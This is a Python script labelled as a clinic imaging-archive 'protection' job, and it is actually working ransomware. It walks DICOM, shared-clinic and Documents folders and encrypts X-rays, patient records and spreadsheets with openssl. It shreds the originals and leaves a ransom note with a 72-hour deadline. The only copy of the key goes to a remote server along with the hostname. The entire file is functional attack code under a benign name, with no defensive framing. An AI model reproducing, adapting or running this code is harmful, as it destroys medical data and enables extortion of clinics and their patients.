#!/usr/bin/env python3
"""Imaging archive "protection" job.

Walks the clinic's imaging archive and the shared documents folder,
encrypts every study, scan and spreadsheet in place, removes the originals,
and leaves a restore note. The key is only sent to the recovery server.
"""
import argparse
import json
import logging
import os
import secrets
import subprocess
import sys
import tempfile
import urllib.request

LOG = logging.getLogger("archive_protect")

DEFAULT_ROOTS = ["/srv/dicom", "/srv/clinic-share", os.path.expanduser("~/Documents")]
EXTENSIONS = {".dcm", ".jpg", ".jpeg", ".png", ".pdf", ".docx", ".xlsx", ".csv", ".sqlite"}
KEY_SERVER = "http://198.51.100.66/k"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"

NOTE_TEXT = """All X-rays, patient records and documents in this folder are encrypted.
Your clinic id is {clinic_id}. To get the decryption key, write to
restore@example.org with this id within 72 hours. Do not rename files.
"""

ENCRYPT_SCRIPT = """#!/bin/bash
# reads one path per line on stdin
while IFS= read -r f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCHIVE_KEY \\
            -in "$f" -out "$f.locked" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "ok $f"
    else
        echo "fail $f"
    fi
done
"""


class ArchiveWalker:
    def __init__(self, roots, extensions):
        self.roots = roots
        self.extensions = extensions

    def targets(self):
        for root in self.roots:
            if not os.path.isdir(root):
                LOG.debug("skip missing root %s", root)
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    if os.path.splitext(name)[1].lower() in self.extensions:
                        yield os.path.join(dirpath, name)

    def drop_notes(self, clinic_id):
        for root in self.roots:
            if not os.path.isdir(root):
                continue
            for dirpath, _dirs, _files in os.walk(root):
                try:
                    with open(os.path.join(dirpath, NOTE_NAME), "w") as fh:
                        fh.write(NOTE_TEXT.format(clinic_id=clinic_id))
                except OSError:
                    pass


def send_key(clinic_id, key):
    body = json.dumps({"id": clinic_id, "k": key, "host": os.uname().nodename}).encode()
    req = urllib.request.Request(KEY_SERVER, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status == 200


def encrypt_all(paths, key):
    workdir = tempfile.mkdtemp(prefix=".ap-")
    script = os.path.join(workdir, "enc.sh")
    with open(script, "w") as fh:
        fh.write(ENCRYPT_SCRIPT)
    env = dict(os.environ, ARCHIVE_KEY=key)
    proc = subprocess.run(["bash", script], input="\n".join(paths), env=env,
                          capture_output=True, text=True)
    os.remove(script)
    os.rmdir(workdir)
    done = sum(1 for line in proc.stdout.splitlines() if line.startswith("ok "))
    return done


def main(argv=None):
    parser = argparse.ArgumentParser()
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    parser.add_argument("--clinic-id", default=secrets.token_hex(6))
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = secrets.token_urlsafe(32)
    try:
        if not send_key(args.clinic_id, key):
            LOG.error("key server refused")
            return 1
    except OSError as exc:
        LOG.error("key server unreachable: %s", exc)
        return 1

    walker = ArchiveWalker(args.roots, EXTENSIONS)
    paths = list(walker.targets())
    LOG.info("found %d files", len(paths))
    done = encrypt_all(paths, key)
    del key
    walker.drop_notes(args.clinic_id)
    LOG.info("processed %d/%d files", done, len(paths))
    return 0


if __name__ == "__main__":
    sys.exit(main())
